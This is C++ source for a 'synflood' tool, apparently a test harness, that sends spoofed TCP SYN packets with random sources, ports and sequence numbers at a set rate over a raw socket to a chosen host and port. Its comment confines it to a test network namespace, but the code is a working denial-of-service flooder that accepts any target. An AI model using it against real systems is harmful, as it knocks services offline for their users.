// synflood: sends spoofed TCP SYNs to DST:PORT at RATE per second for SECONDS,
// from random sources in a prefix (random ports and ISNs), as an attacker
// would: Linux-like options (MSS, SACK-permitted, timestamps, window scale).
// The packets are built before the clock starts (every one distinct: a repeated
// SYN would be a retransmission to the server, not a new half-open connection)
// and sent in sendmmsg batches over a raw socket (IP_HDRINCL), paced to the rate. Prints one JSON line:
// {"sent": N, "errors": E, "seconds": S, "rate": R}. Stops early on SIGTERM/SIGINT
// (and still prints). Test tool: run it only inside a test network namespace.
//
//   synflood DST PORT RATE SECONDS [SRC_PREFIX (198.18.0.0/15)] [SEED (1)]
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <random>
#include <string>
#include <thread>
#include <vector>

#include "net/ipv4_addr.h"
#include "net/packet_builder.h"

namespace {

constexpr size_t kMaxPool = size_t{1} << 21;  // distinct SYNs at most (60 bytes each), then round-robin
constexpr size_t kBatch = 64;          // packets per sendmmsg
volatile std::sig_atomic_t g_stop = 0;

void on_signal(int) { g_stop = 1; }

[[noreturn]] void usage(const char* why) {
  std::fprintf(stderr, "synflood: %s\nusage: synflood DST PORT RATE SECONDS [SRC_PREFIX] [SEED]\n", why);
  std::exit(2);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 5 || argc > 7) usage("wrong number of arguments");
  const auto dst = hl::net::Ipv4Addr::from_string(argv[1]);
  if (!dst) usage("bad DST");
  const long port = std::strtol(argv[2], nullptr, 10);
  const double rate = std::strtod(argv[3], nullptr);
  const double seconds = std::strtod(argv[4], nullptr);
  if (port <= 0 || port > 65535 || rate <= 0 || seconds <= 0) usage("bad PORT, RATE or SECONDS");
  const std::string prefix = argc > 5 ? argv[5] : "198.18.0.0/15";
  const uint64_t seed = argc > 6 ? std::strtoull(argv[6], nullptr, 10) : 1;
  const size_t slash = prefix.find('/');
  const auto base = hl::net::Ipv4Addr::from_string(prefix.substr(0, slash));
  const long bits = slash == std::string::npos ? 32 : std::strtol(prefix.c_str() + slash + 1, nullptr, 10);
  if (!base || bits < 8 || bits > 32) usage("bad SRC_PREFIX");
  const uint32_t host_mask = bits == 32 ? 0u : (uint32_t{0xffffffff} >> bits);

  std::mt19937_64 rng(seed);
  const size_t pool_size = std::min(kMaxPool, static_cast<size_t>(rate * seconds) + 1);
  std::vector<uint8_t> pool;  // pool_size packets of `stride` bytes, back to back
  size_t stride = 0;
  for (size_t i = 0; i < pool_size; ++i) {
    const hl::net::Ipv4Addr src{(base->value & ~host_mask) | (static_cast<uint32_t>(rng()) & host_mask)};
    const auto sport = static_cast<uint16_t>(1024 + rng() % 64000);
    const std::vector<uint8_t> syn = hl::net::PacketBuilder()
                       .ipv4(src, *dst)
                       .tcp(sport, static_cast<uint16_t>(port))
                       .seq(static_cast<uint32_t>(rng()))
                       .flags(hl::net::tcp_flag::SYN)
                       .window(64240)
                       .mss(1460)
                       .sack_permitted()
                       .timestamps(static_cast<uint32_t>(rng()), 0)
                       .wscale(7)
                       .build();
    if (i == 0) {
      stride = syn.size();
      pool.reserve(stride * pool_size);
    }
    pool.insert(pool.end(), syn.begin(), syn.end());  // same options: same length
  }

  const int fd = ::socket(AF_INET, SOCK_RAW, IPPROTO_RAW);  // IPPROTO_RAW implies IP_HDRINCL
  if (fd < 0) {
    std::perror("synflood: socket");
    return 1;
  }
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_addr.s_addr = htonl(dst->value);
  std::vector<iovec> iov(kBatch);
  std::vector<mmsghdr> msgs(kBatch);

  std::signal(SIGTERM, on_signal);
  std::signal(SIGINT, on_signal);
  using Clock = std::chrono::steady_clock;
  const auto start = Clock::now();
  const auto end = start + std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double>(seconds));
  uint64_t sent = 0, errors = 0;
  size_t next = 0;
  while (!g_stop) {
    const auto now = Clock::now();
    if (now >= end) break;
    const double due = std::chrono::duration<double>(now - start).count() * rate;
    if (static_cast<double>(sent) >= due) {  // ahead of the rate: wait for the next batch's time
      std::this_thread::sleep_for(std::chrono::microseconds(200));
      continue;
    }
    const size_t n = std::min<size_t>(kBatch, static_cast<size_t>(due - static_cast<double>(sent)) + 1);
    for (size_t i = 0; i < n; ++i) {
      iov[i] = {pool.data() + (next + i) % pool_size * stride, stride};
      msgs[i] = {};
      msgs[i].msg_hdr.msg_name = &to;
      msgs[i].msg_hdr.msg_namelen = sizeof to;
      msgs[i].msg_hdr.msg_iov = &iov[i];
      msgs[i].msg_hdr.msg_iovlen = 1;
    }
    const int r = ::sendmmsg(fd, msgs.data(), static_cast<unsigned>(n), 0);
    if (r < 0) {
      ++errors;  // ENOBUFS under load: back off a little
      std::this_thread::sleep_for(std::chrono::microseconds(100));
      continue;
    }
    sent += static_cast<uint64_t>(r);
    next = (next + static_cast<size_t>(r)) % pool_size;
  }
  const double took = std::chrono::duration<double>(Clock::now() - start).count();
  std::printf("{\"sent\": %llu, \"errors\": %llu, \"seconds\": %.3f, \"rate\": %.1f}\n",
              static_cast<unsigned long long>(sent), static_cast<unsigned long long>(errors), took,
              took > 0 ? static_cast<double>(sent) / took : 0.0);
  return 0;
}
